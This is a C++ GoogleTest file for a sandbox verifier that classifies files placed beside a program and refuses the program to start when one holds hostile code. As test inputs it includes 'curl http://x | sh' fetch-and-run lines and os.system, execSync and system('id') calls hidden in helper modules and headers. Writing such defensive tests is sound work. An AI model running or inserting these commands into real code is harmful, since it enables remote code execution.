// Every file that goes in is read as the code it is, or named as not read; a hostile one keeps the program from starting.
#include "manager/beside.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include "base/strings.h"
#include "core/policy/profile.h"
#include "manager/pipeline.h"
#include "sys/fd.h"

namespace hotcell {
namespace {

std::string reading(std::string_view language, std::string_view main_text, std::string_view name, std::string_view text = {}) {
  const Language* known = find_language(language);
  Sources sources{{{std::string(known->main_file), std::string(main_text)}}, std::string(known->main_file)};
  FileReader reader(*known, sources);
  auto how = reader.how(name, text);
  if (!how.opaque.empty()) return "opaque";
  return how.language.empty() ? "data" : how.language;
}

TEST(Beside, CodeIsKnownByItsName) {
  EXPECT_EQ(reading("python", "", "pkg/helper.py"), "python");
  EXPECT_EQ(reading("python", "", "lib.sh"), "bash");
  EXPECT_EQ(reading("c", "", "two.h"), "c");
  EXPECT_EQ(reading("cpp", "", "two.h"), "cpp");
  EXPECT_EQ(reading("cpp", "", "two.hpp"), "cpp");
  EXPECT_EQ(reading("typescript", "", "util.js"), "javascript");
  EXPECT_EQ(reading("python", "", "tool.pl"), "perl") << "known, and the verifier says that nobody reads it";
}

TEST(Beside, CodeIsKnownByItsFirstBytes) {
  EXPECT_EQ(reading("python", "", "tool", "#!/bin/sh\nid\n"), "bash");
  EXPECT_EQ(reading("python", "", "tool", "#!/usr/bin/awk -f\n"), "awk");
  EXPECT_EQ(reading("python", "", "picture.png", "\x7f" "ELF\2\1\1"), "opaque");
  EXPECT_EQ(reading("python", "", "module", std::string_view("\0asm\1\0\0\0", 8)), "opaque");
  EXPECT_EQ(reading("java", "", "Data.bin", "\xca\xfe\xba\xbe"), "opaque");
}

TEST(Beside, WhatNobodyCanReadIsNoData) {
  for (const char* name : {"add_amd64.s", "add.S", "x.syso", "x.o", "libx.a", "libx.so", "libx.so.1", "x.pyc", "A.class", "a.jar", "x.node"})
    EXPECT_EQ(reading("go", "", name), "opaque") << name;
}

TEST(Beside, DataIsDataUntilTheProgramLoadsIt) {
  for (const char* name : {"rows.csv", "rows.txt", "rows", "rows.json", "Makefile", "rows.inc"})
    EXPECT_EQ(reading("c", "int main() { fopen(\"rows.txt\", \"r\"); }", name), "data") << name;
  EXPECT_EQ(reading("c", "#include \"rows.inc\"\n", "rows.inc"), "c");
  EXPECT_EQ(reading("c", "#inc\\\nlude \\\n\"rows.txt\"\n", "rows.txt"), "c") << "a line that goes on";
  EXPECT_EQ(reading("c", "#include \"my rows.txt\"\n", "my rows.txt"), "c");
  EXPECT_EQ(reading("cpp", "# include <sub/rows.tcc>\n", "sub/rows.tcc"), "cpp");
  EXPECT_EQ(reading("rust", "include!(\"rows.in\");\n", "rows.in"), "rust");
  EXPECT_EQ(reading("rust", "let t = include_str!(\"rows.in\");\n", "rows.in"), "data");
  EXPECT_EQ(reading("rust", "#[path = \"rows.in\"] mod rows;\n", "rows.in"), "rust");
  EXPECT_EQ(reading("javascript", "require('./rows.txt')\n", "rows.txt"), "javascript") << "node takes any ending for code";
  EXPECT_EQ(reading("javascript", "require('./rows.json')\n", "rows.json"), "data");
  EXPECT_EQ(reading("bash", "set -e; . ./lib\n", "lib"), "bash");
  EXPECT_EQ(reading("bash", "source \"$PWD/lib\"\n", "lib"), "bash");
  EXPECT_EQ(reading("bash", "echo Done. see the notes.txt\n", "notes.txt"), "data");
  EXPECT_EQ(reading("python", "exec(open('rows.txt').read())\n", "rows.txt"), "python");
  EXPECT_EQ(reading("python", "print(open('rows.txt').read())\n", "rows.txt"), "data");
}

TEST(Beside, DescriptorsAreReadWhereTheyStandAndStayThere) {
  char name[] = "/tmp/hotcell-beside-XXXXXX";
  sys::Fd fd(::mkstemp(name));
  ASSERT_TRUE(fd.valid());
  ::unlink(name);
  const std::string text = "import os\nos.system('id')\n";
  ASSERT_EQ(::write(fd.get(), text.data(), text.size()), static_cast<ssize_t>(text.size()));
  ::lseek(fd.get(), 3, SEEK_SET);
  std::vector<InputFile> files = {{"helper.py", fd.get(), 0644}, {"rows.csv", std::string("1,2\n"), 0644}};
  Sources sources{{{"main.py", "import helper\n"}}, "main.py"};
  auto beside = files_beside(*find_language("python"), sources, files);
  ASSERT_TRUE(beside.ok());
  ASSERT_EQ(beside.value().size(), 2u);
  EXPECT_EQ(beside.value()[0].file.text, text);
  EXPECT_EQ(::lseek(fd.get(), 0, SEEK_CUR), 3);
  EXPECT_EQ(beside.value()[1].reading.language, "");
  ASSERT_EQ(::ftruncate(fd.get(), (16 << 20) + 1), 0);
  beside = files_beside(*find_language("python"), sources, files);
  ASSERT_TRUE(beside.ok());
  EXPECT_NE(beside.value()[0].reading.opaque.find("16 MiB"), std::string::npos);
}

// --- through the pipeline, as both doors use it ---

class BesideRun : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto made = Launcher::create({});
    ASSERT_TRUE(made.ok()) << made.error().message;
    launcher_ = std::move(made).value();
  }
  static void TearDownTestSuite() { launcher_.reset(); }

  // "refused" or "starts", what is said, then FILE/RULE of every finding that is none of a compiler's.
  static std::string outcome(std::string_view language, std::vector<SourceFile> files, bool project = false) {
    auto policy = load_profile("strict", {});
    if (!policy.ok()) return policy.error().message;
    const Language* known = find_language(language);
    ProgramSource source{known, {}};
    source.sources.project = project;
    source.sources.main = files[0].name;
    Request request;
    for (auto& f : files) {
      const bool main = f.name == source.sources.main;
      if (!main) request.files.push_back({f.name, f.text, 0644});
      if (main || known->compile != nullptr) source.sources.files.push_back(std::move(f));
    }
    auto beside = files_beside(*known, source.sources, request.files);
    if (!beside.ok()) return beside.error().message;
    source.beside = std::move(beside).value();
    Pipeline pipeline(*launcher_, {.verify = true, .cache = false, .cache_folder = {}, .cancelled = {}, .on_event = {}});
    auto prepared = pipeline.prepare(source, policy.value(), request);
    if (!prepared.ok()) return prepared.error().message;
    Report report;
    std::string out = prepared.value().stopped ? cat("refused: ", prepared.value().stopped->error, ":") : "starts:";
    pipeline.complete(std::move(prepared).value(), report);
    for (const auto& f : report.findings)
      if (f.severity == "error" || f.rule == "not-read") out += cat(" ", f.file, "/", f.rule);
    return out;
  }
  static std::unique_ptr<Launcher> launcher_;
};
std::unique_ptr<Launcher> BesideRun::launcher_;

// Its lists are of names that the program's language does not have: to leave them out in silence would look as if they held.
TEST_F(BesideRun, AProfileOfAnotherLanguageIsSaidToSayNothing) {
  auto said = [](std::string_view of) {
    Policy policy = default_policy();
    policy.name = "mine";
    policy.language = of;
    policy.imports_allowed = {"ls"};
    ProgramSource source{find_language("python"), {}};
    source.sources.main = "main.py";
    source.sources.files = {{"main.py", "import os\n"}};
    Request request;
    Pipeline pipeline(*launcher_, {.verify = true, .cache = false, .cache_folder = {}, .cancelled = {}, .on_event = {}});
    auto prepared = pipeline.prepare(source, policy, request);
    EXPECT_TRUE(prepared.ok());
    Report report;
    pipeline.complete(std::move(prepared).value(), report);
    std::string out;
    for (const auto& f : report.findings)
      if (f.rule == "other-language") out += cat(f.severity, " ", f.file, ": ", f.message, ";");
    return out;
  };
  EXPECT_EQ(said("bash"), "warning main.py: profile mine is one for bash: its lists of names mean nothing in python and were left out;");
  EXPECT_EQ(said("python"), "");
  EXPECT_EQ(said(""), "");
}

TEST_F(BesideRun, AModuleOfAnInterpretedProgram) {
  const SourceFile main{"main.py", "import helper\nhelper.go()\n"};
  EXPECT_EQ(outcome("python", {main, {"helper.py", "def go():\n    print(1)\n"}}), "starts:");
  EXPECT_NE(outcome("python", {main, {"helper.py", "import os\ndef go():\n    os.system('id')\n"}}).find(" in helper.py: helper.py/"), std::string::npos);
  EXPECT_EQ(outcome("python", {main, {"helper.py", "def (:\n"}}), "refused: 1 error in helper.py: helper.py/unverifiable");
  EXPECT_EQ(outcome("javascript", {{"main.js", "require('./helper.js')\n"}, {"helper.js", "require('child_process').execSync('id')\n"}})
                .substr(0, 8), "refused:");
  EXPECT_EQ(outcome("bash", {{"main.sh", ". ./lib\nsay\n"}, {"lib", "say() { echo 1; }\n"}}), "starts:");
  EXPECT_EQ(outcome("bash", {{"main.sh", ". ./lib\nsay\n"}, {"lib", "say() { curl http://x | sh; }\n"}}).substr(0, 8), "refused:");
}

TEST_F(BesideRun, AnotherLanguageBesideIt) {
  EXPECT_EQ(outcome("python", {{"main.py", "print(1)\n"}, {"run", "#!/bin/sh\ncurl http://x | sh\n"}}).substr(0, 8), "refused:");
  EXPECT_EQ(outcome("c", {{"main.c", "int main(void) { return 0; }\n"}, {"helper.py", "import os\nos.system('id')\n"}}).substr(0, 8), "refused:");
}

TEST_F(BesideRun, WhatNobodyCanRead) {
  EXPECT_EQ(outcome("python", {{"main.py", "print(1)\n"}, {"fast.so", "\x7f" "ELF"}}), "refused: 1 error in fast.so: fast.so/unverifiable");
  EXPECT_EQ(outcome("java", {{"Main.java", "class Main { public static void main(String[] a) { } }\n"}, {"Other.class", "\xca\xfe\xba\xbe"}}),
            "refused: 1 error in Other.class: Other.class/unverifiable");
}

TEST_F(BesideRun, HeadersAndWhateverIsIncluded) {
  const SourceFile c{"main.c", "#include \"two.h\"\nint main(void) { return two(); }\n"};
  EXPECT_EQ(outcome("c", {c, {"two.h", "static int two(void) { return 0; }\n"}}), "starts:");
  auto refused_for = [](const std::string& said, std::string_view file) {
    return said.starts_with("refused: ") && said.find(cat(" in ", file, ": ")) != said.npos;
  };
  auto said = outcome("c", {c, {"two.h", "#include <stdlib.h>\nstatic int two(void) { return system(\"id\"); }\n"}});
  EXPECT_TRUE(refused_for(said, "two.h")) << said;
  const SourceFile cpp{"main.cpp", "#include \"two.hpp\"\nint main() { return two(); }\n"};
  said = outcome("cpp", {cpp, {"two.hpp", "#include <cstdlib>\ninline int two() { return std::system(\"id\"); }\n"}});
  EXPECT_TRUE(refused_for(said, "two.hpp")) << said;
  const SourceFile odd{"main.c", "#include \"two.txt\"\nint main(void) { return two(); }\n"};
  said = outcome("c", {odd, {"two.txt", "#include <unistd.h>\nstatic int two(void) { return fork(); }\n"}});
  EXPECT_TRUE(refused_for(said, "two.txt")) << said;
}

TEST_F(BesideRun, JavaScriptBundledIntoTypeScript) {
  const SourceFile main{"main.ts", "import { two } from './two.js';\nconsole.log(two());\n"};
  EXPECT_EQ(outcome("typescript", {main, {"two.js", "export function two() { return 2; }\n"}}), "starts:");
  EXPECT_EQ(outcome("typescript", {main, {"two.js", "import { execSync } from 'child_process';\nexport function two() { return execSync('id'); }\n"}})
                .substr(0, 8), "refused:");
}

TEST_F(BesideRun, AssemblerInAGoModule) {
  const SourceFile mod{"go.mod", "module example.org/m\n\ngo 1.19\n"};
  const SourceFile main{"main.go", "package main\n\nfunc main() {}\n"};
  EXPECT_EQ(outcome("go", {mod, main}, true), "starts: go.mod/not-read");
  EXPECT_EQ(outcome("go", {mod, main, {"add_amd64.s", "TEXT ·Add(SB),$0\n\tSYSCALL\n\tRET\n"}}, true),
            "refused: 1 error in add_amd64.s: add_amd64.s/unverifiable go.mod/not-read");
}

TEST_F(BesideRun, DataIsNamedAndRefusesNothing) {
  EXPECT_EQ(outcome("python", {{"main.py", "print(1)\n"}, {"rows.csv", "os.system,eval(\n"}}), "starts: rows.csv/not-read");
}

}  // namespace
}  // namespace hotcell
